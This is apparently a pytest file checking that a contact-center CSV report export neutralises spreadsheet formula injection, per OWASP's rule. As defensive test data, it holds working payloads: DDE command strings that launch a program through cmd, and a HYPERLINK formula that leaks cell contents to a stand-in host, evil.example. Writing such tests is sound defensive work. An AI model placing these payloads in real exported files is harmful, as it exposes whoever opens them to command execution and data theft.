"""CSV injection: no exported cell is a formula a spreadsheet would run (OWASP's rule).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
spreadsheets as a formula; every such cell is prefixed with ``'`` unless it is a number or
an E.164 phone number. The payloads are the known families: DDE command lines hidden
behind arithmetic (``-2+3+cmd|…``), a leading ``+1`` (which the old rule let through as
"a sign and a digit"), ``=HYPERLINK``, ``@SUM`` and tab- or CR-prefixed formulas.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from contactcenter.model import CallOutcome, Party, PartyKind
from tab.spreadsheet import formula_safe
from tests.analytics.records import ANA, at, record
from tests.analytics.support import demo_record, state_of
from tests.tab.support import ADMIN, TabStack

DDE = "-2+3+cmd|' /C calc'!A0"
PLUS_ONE = "+1+cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"

PAYLOADS = [DDE, PLUS_ONE, HYPERLINK, AT_SUM, TAB, CR, "=1+1", "-1+1", "+", "-", "@", "+1 425"]
LEGIT = ["-12.5", "+14255550100", "12", "0", "+3", "-0.25", "1e5", "Sales", "", "Ana Ruiz"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_E164 = re.compile(r"\+[1-9]\d{1,14}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_looking_cell_is_neutralised(payload: str) -> None:
    assert formula_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", LEGIT)
def test_numbers_phone_numbers_and_text_are_left_alone(value: str) -> None:
    assert formula_safe(value) == value


def _is_live_formula(cell: str) -> bool:
    """The test's own reading of OWASP's rule: would a spreadsheet run this cell?"""
    if not cell.startswith(_FORMULA_START):
        return False
    return not (_NUMBER.fullmatch(cell) or _E164.fullmatch(cell))


async def test_the_exported_calls_csv_opened_as_text_has_no_live_formula(
    stack: TabStack,
) -> None:
    hostile = demo_record(
        replace(
            record("csv-1", at(15, 0), CallOutcome.ANSWERED, wait=12.5, talk=60, agent=ANA),
            caller=Party(PartyKind.PHONE, "+14255550100", display_name=DDE),
            queue_name=HYPERLINK,
            agent_name=AT_SUM,
            disposition_code=TAB,
            disposition_note=PLUS_ONE,
            result_message=CR,
            missed_agent_ids=("=1+1",),
            declined_agent_ids=("=1+1",),
        )
    )
    anonymous = demo_record(
        replace(
            record("csv-2", at(15, 5), CallOutcome.ABANDONED, wait=3),
            caller=Party(PartyKind.PHONE, "+14255550100"),
        )
    )
    for item in (hostile, anonymous):
        await stack.repository.call_records.create(item)
    await state_of(stack).aggregator.add_records([hostile, anonymous])

    path = "/api/tab/reports/calls?from=2026-03-02&to=2026-03-02&format=csv"
    async with stack.host.get(path, headers=stack.auth(ADMIN.id)) as response:
        assert response.status == 200
        text = await response.text()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if _is_live_formula(cell)] == []
    for payload in (DDE, HYPERLINK, AT_SUM, TAB, PLUS_ONE, CR):
        assert "'" + payload in cells, repr(payload)
    assert cells.count("'=1+1") == 2  # missed by, declined by
    # A caller known only by their number keeps it as it is: a value, not a formula.
    assert "+14255550100" in cells
